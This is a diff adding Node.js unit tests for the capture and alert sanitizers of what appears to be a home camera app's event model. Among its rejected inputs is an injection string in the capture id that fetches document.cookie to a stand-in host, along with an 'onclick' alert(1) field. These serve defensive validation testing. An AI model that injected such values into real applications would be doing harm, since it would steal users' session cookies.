@@ -0,0 +1,113 @@
+// Event Model tests - run from the repository root with `node --test`
+const test = require('node:test');
+const assert = require('node:assert');
+const EventModel = require('../event-model.js');
+
+const CAPTURE = {
+    id: 1714557600000,
+    type: 'clip',
+    timestamp: '2024-05-01T10:00:00.000Z',
+    motionLevel: 12.5,
+    zone: 'Door',
+    tags: ['motion', 'clip'],
+    soundType: null,
+    soundLevel: null,
+    incidentId: 'inc_1',
+    alertId: 1714557599999,
+    cameraId: 'cam-1',
+    cameraName: 'Porch',
+    nightMode: false,
+    mimeType: 'video/webm',
+    bytes: 2048,
+    size: '2 KB',
+    duration: 12.4,
+    preRoll: 5,
+    audio: true
+};
+
+const ALERT = {
+    id: 1714557599999,
+    type: 'motion',
+    incidentId: 'inc_1',
+    timestamp: '2024-05-01T10:00:00.000Z',
+    motionLevel: '12.5',
+    zoneId: 'zone_door',
+    zone: 'Door',
+    cameraId: 'cam-1',
+    cameraName: 'Porch',
+    armingMode: 'away',
+    nightMode: false,
+    read: true,
+    labels: ['person'],
+    captureIds: [1714557600000]
+};
+
+test('sanitizeCapture keeps a well-formed capture as it is', () => {
+    assert.deepStrictEqual(EventModel.sanitizeCapture(CAPTURE), CAPTURE);
+    assert.deepStrictEqual(EventModel.sanitizeCapture({ ...CAPTURE, file: 'captures/1.webm', extra: '<b>' }), CAPTURE);
+});
+
+test('sanitizeCapture drops captures without a usable id, time or type', () => {
+    const bad = [
+        null,
+        'capture',
+        { ...CAPTURE, id: "1);fetch('//x/'+document.cookie);(" },
+        { ...CAPTURE, id: '1714557600000' },
+        { ...CAPTURE, id: Infinity },
+        { ...CAPTURE, timestamp: 'yesterday' },
+        { ...CAPTURE, timestamp: undefined },
+        { ...CAPTURE, type: 'script' },
+        { ...CAPTURE, duration: 'long' }
+    ];
+    bad.forEach(item => assert.strictEqual(EventModel.sanitizeCapture(item), null));
+});
+
+test('sanitizeCapture replaces fields of the wrong kind', () => {
+    const { type, duration, preRoll, audio, ...image } = CAPTURE;
+    const capture = EventModel.sanitizeCapture({ ...image, mimeType: ['image/jpeg'], zone: 7, tags: ['a', 1, null, 'b'] });
+
+    assert.strictEqual(capture.type, 'image');
+    assert.strictEqual(capture.mimeType, '');
+    assert.strictEqual(capture.zone, null);
+    assert.deepStrictEqual(capture.tags, ['a', 'b']);
+    assert.strictEqual('duration' in capture, false);
+});
+
+test('sanitizeAlert keeps a well-formed alert as it is', () => {
+    assert.deepStrictEqual(EventModel.sanitizeAlert(ALERT), ALERT);
+
+    const tamper = {
+        ...ALERT,
+        type: 'tamper',
+        motionLevel: null,
+        tamperType: 'blackout',
+        description: 'Lens covered or blacked out',
+        priority: 'high',
+        details: { brightness: 2 }
+    };
+    assert.deepStrictEqual(EventModel.sanitizeAlert(tamper), tamper);
+});
+
+test('sanitizeAlert drops alerts without a usable id, time or type', () => {
+    const bad = [
+        { ...ALERT, id: 'x' },
+        { ...ALERT, timestamp: 'not a date' },
+        { ...ALERT, timestamp: null },
+        { ...ALERT, type: 'custom' }
+    ];
+    bad.forEach(item => assert.strictEqual(EventModel.sanitizeAlert(item), null));
+});
+
+test('sanitizeAlert cleans up its optional fields', () => {
+    const alert = EventModel.sanitizeAlert({
+        ...ALERT,
+        motionLevel: 'high',
+        armingMode: 'party',
+        captureIds: [1, '2', null],
+        onclick: 'alert(1)'
+    });
+    assert.strictEqual(alert.motionLevel, null);
+    assert.strictEqual(alert.armingMode, 'disarmed');
+    assert.deepStrictEqual(alert.captureIds, [1]);
+    assert.strictEqual('onclick' in alert, false);
+});